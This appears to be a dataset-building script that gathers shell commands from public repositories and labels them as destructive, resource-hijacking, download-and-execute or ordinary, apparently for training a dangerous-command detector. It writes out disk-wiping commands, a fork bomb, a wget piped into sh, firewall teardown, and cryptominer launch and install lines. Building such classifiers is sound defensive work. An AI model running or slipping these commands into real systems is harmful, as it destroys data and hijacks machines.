S("mad4j/suicide-linux", "README.md", "003cec08dedbd8906ff5af7c38ba1af34901f4ec")
add(M, "destructive", "Wipeout / Tabula rasa / Wrong Place / Junk / Start again / Busy / Don't Panic", r'''
rm -fR /
mkfs.ext4 /dev/sda1
date > /dev/sda
dd if=/dev/random of=/dev/sda
mv ~ /dev/null
find / -name busybox -exec rm -f {} \;
cat /dev/port
''')
add(M, "resource_hijack", "Fork Bomb", r'''
:(){ :|: & };:
''')
add(M, "download_execute", "Danger from the Outside", r'''
wget http://example.com/something -O – | sh –
''')
S("kaplanelad/shellfirm", "docs/checks/fs.md", "034b7a0c005b96074b534ad94e64b0ccfbd5ac42")
add(M, "destructive", "FS Checks", r'''
rm -r /
mv /home/alice /dev/null
chmod -R 777 /
find -delete
''', note="{PATH}/{MODE} placeholders filled with /home/alice and 777")
S("kaplanelad/shellfirm", "docs/checks/base.md", "1c8964d3c7d7f010fc9ea7e0a73c783ebd476ac8")
add(M, "destructive", "Base Checks", r'''
history | bash
''')
S("kaplanelad/shellfirm", "docs/checks/network.md", "3ef5387bc0a88778943924abc324b2f3a7a8edf1")
add(M, "destructive", "Network Checks", r'''
iptables -F
iptables -X
iptables -t nat -F
ufw disable
ufw --force reset
systemctl stop networking
systemctl stop NetworkManager
ifconfig eth0 down
ip link set eth0 down
route del default
''', note="ethX placeholder filled with eth0")
S("kaplanelad/shellfirm", "docs/checks/git.md", "3ef5387bc0a88778943924abc324b2f3a7a8edf1")
add("ordinary", None, "Git Checks (routine, if risky, history edits)", r'''
git reset
git rm *
git clean -fd
git checkout -f
git rebase -i
git gc --prune=now
git merge --no-ff
git bisect
''')
S("ColinIanKing/stress-ng", "README.md", "002229065a0204e79a986b27c1bc3efa34c1da55")
add(M, "resource_hijack", "Examples", r'''
stress-ng --cpu 4 --vm 2 --hdd 1 --fork 8 --timeout 2m --metrics
stress-ng --matrix -1 --tz -t 60
sudo stress-ng --iomix 4 --smart -t 30s
stress-ng --vdso 1 -t 5 --metrics
sudo stress-ng --branch 1 --perf -t 10 | grep Branch
stress-ng --class io --permute 0 -x rawdev -t 1m --vmstat 1 --klog-check  --temp-path /zfs-pool/test
sudo stress-ng --matrix-3d 8 --matrix-3d-size 512 --rapl -t 10 --verify
stress-ng --intmath 0 -t 1m --c-states
''')
add("ordinary", None, "Building", r'''
CC=gcc gmake clean
make clean
make -j
CC=clang gmake
STATIC=1 make
PEDANTIC=1 make
CC=tcc make
CC=pcc make
CC=icc make
STATIC=1 CC=mips64-linux-gnuabi64-gcc CXX=mips64-linux-gnuabi64-g++ make -j $(nproc)
DEBUG=1 make
''')
S("caippx/bash", "drfytgybhunjoimkol/wk_2.sh", "0b4df1db2913789fb2078398f02ee90e5a940cf6")
add(M, "resource_hijack", "script", r'''
nohup ./xmrig -o service.jean-ip-foundation.org:4444 -u ${WALLET}.${hostname} -p ${hostname} -k --coin monero -a rx/0 > ~/wk/wk.log 2>&1 &
''')
add("public_host", None, "script", r'''
wget -O ~/wk/xmrig-6.16.4-linux-x64.tar.gz https://github.com/xmrig/xmrig/releases/download/v6.16.4/xmrig-6.16.4-linux-x64.tar.gz
''')
S("u7er/xmrstorage", "deploy.sh", "31af906390a3911155d21d94169d7b62c3f52bd8")
add("public_host", None, "script", r'''
wget https://github.com/xmrig/xmrig/releases/download/v6.18.0/xmrig-6.18.0-linux-x64.tar.gz
''')
add(M, "resource_hijack", "script (installs a miner under /etc)", r'''
cp xmrig-6.18.0/xmrig /etc/miner/
''')
S("lnxd/docker-xmrig", "mine.sh", "0335afe43501bead39555589aa3838cb352e86ab")
add(M, "resource_hijack", "script", r'''
./xmrig --url=${POOL} --coin=${COIN} --user=${WALLET}.${WORKER} --donate-level=${DONATE} --randomx-wrmsr=-1 --randomx-no-rdmsr ${ADDITIONAL}
''')
